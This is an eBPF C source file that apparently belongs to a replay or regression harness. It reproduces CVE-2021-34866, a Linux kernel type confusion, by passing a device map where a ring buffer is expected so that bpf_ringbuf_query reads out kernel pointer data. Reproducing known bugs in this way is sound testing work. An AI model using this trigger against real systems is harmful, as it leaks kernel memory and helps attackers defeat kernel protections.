// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2021-34866: a helper for ring buffers could be called with a map of
 * another type, and took its fields for a ring's. Here it is a device map, whose
 * table of kernel pointers lies where a ring buffer's pages are expected, and
 * what is read out of it is a position in the ring.
 */
#include "replay.bpf.h"

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 4096);
} ring SEC(".maps");

struct {
	__uint(type, BPF_MAP_TYPE_DEVMAP);
	__uint(max_entries, 2 * CONFUSED_ENTRY);
	__uint(key_size, 4);
	__uint(value_size, 4);
} devices SEC(".maps");

REPLAY(2021_34866)
{
	struct order *o = take_order();
	void *map = &devices;

	if (!o)
		return XDP_DROP;
	*(volatile __u64 *)&o->target = (__u64)(long)map;
	map = astray(o, &ring);
	return survived(o, bpf_ringbuf_query(map, BPF_RB_PROD_POS));
}

char _license[] SEC("license") = "GPL";
